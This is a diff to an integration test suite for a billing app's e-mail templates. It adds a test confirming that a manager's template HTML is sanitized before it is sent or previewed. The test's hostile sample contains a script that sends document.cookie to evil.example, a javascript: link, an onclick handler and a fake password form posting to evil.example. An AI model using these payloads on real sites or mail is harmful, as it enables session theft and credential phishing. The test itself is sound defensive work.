@@ -62,7 +62,7 @@ describe('/api/email-templates', () => {
     expect(preview.status, preview.text).toBe(200);
     expect(preview.json as EmailTemplatePreview).toEqual({
       subject: 'Bill INV-0042 for Jane Doe',
-      html: '<p>Jane Doe & &lt;b&gt;</p>',
+      html: '<p>Jane Doe &amp; &lt;b&gt;</p>',
       text: expect.stringMatching(/^Pay: http:\/\/.+\/pay\/sample$/),
     });
 
@@ -153,6 +153,60 @@ describe('the e-mails billing sends', () => {
 
     const pub = await stack.client().get(`/api/invoices/${invoice.publicToken}/public`);
     expect(pub.json).toMatchObject({ whiteLabel: true, seller: { name: 'Quiet Label Ltd' } });
+  });
+});
+
+describe('a manager’s HTML in the e-mails', () => {
+  /** A second person, a manager of the tenant, signed in to it. */
+  async function managerOf(tenantId: string) {
+    const m = stack.client();
+    const me = await m.register({ organizationName: 'Manager’s own' });
+    await stack.db.query(
+      `insert into gateway.memberships (id, user_id, organization_id, role) values (gen_random_uuid(), $1, $2, 'manager')`,
+      [me.id, tenantId],
+    );
+    expect((await m.post('/api/auth/switch-organization', { organizationId: tenantId })).status).toBe(200);
+    expect((await m.get('/api/auth/user')).json).toMatchObject({ role: 'manager' });
+    return m;
+  }
+  const hostileHtml =
+    '<p onclick="steal()">Hi {{ customer.name | raw }}<script>fetch("https://evil.example/?c=" + document.cookie)</script></p>' +
+    '<a href="javascript:alert(1)">Verify your account</a>' +
+    '<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>' +
+    '<a href="{{ payLink | raw }}">Pay</a>';
+
+  it('goes out without scripts, handlers, script links or forms; `| raw` only for a link', async () => {
+    const { c, tenantId } = await tenant('Raw Makers');
+    const manager = await managerOf(tenantId);
+    const saved = await put(manager, 'invoice', {
+      subject: 'Bill {{ invoice.number }}',
+      htmlContent: hostileHtml,
+      textContent: 'Hi {{ customer.name | raw }}',
+    });
+    expect(saved.status, saved.text).toBe(200);
+    expect((saved.json as EmailTemplate).htmlContent).toBe(hostileHtml); // stored as written; cleaned whenever rendered
+
+    const customer = await makeCustomer(c, { name: '<b>x</b>', email: 'raw.customer@example.test' });
+    const invoice = await makeInvoice(c, customer.id);
+    expect((await c.post(`/api/invoices/${invoice.id}/send`)).status).toBe(200);
+    const [mail] = await mailsTo(stack, 'raw.customer@example.test');
+    for (const gone of ['<script', 'document.cookie', 'onclick', 'javascript:', '<form', '<input', '<button', 'evil.example', '<b>'])
+      expect(mail!.html, gone).not.toContain(gone);
+    expect(mail!.html).toContain('<p>Hi &lt;b&gt;x&lt;/b&gt;</p>');
+    expect(mail!.html).toMatch(new RegExp(`<a href="http://[^"]+/pay/${invoice.publicToken}">Pay</a>`));
+    expect(mail!.html).toContain('<a>Verify your account</a>');
+    expect(mail!.text).toContain('Hi <b>x</b>'); // the plain-text part is plain text
+
+    // The preview the web shows is cleaned the same way.
+    const preview = await manager.post('/api/email-templates/invoice/preview', {
+      subject: 's',
+      htmlContent: hostileHtml,
+      textContent: 't',
+    });
+    expect(preview.status, preview.text).toBe(200);
+    expect((preview.json as EmailTemplatePreview).html).toMatch(
+      /^<p>Hi Jane Doe<\/p><a>Verify your account<\/a><a href="http:\/\/[^"]+\/pay\/sample">Pay<\/a>$/,
+    );
   });
 });
 
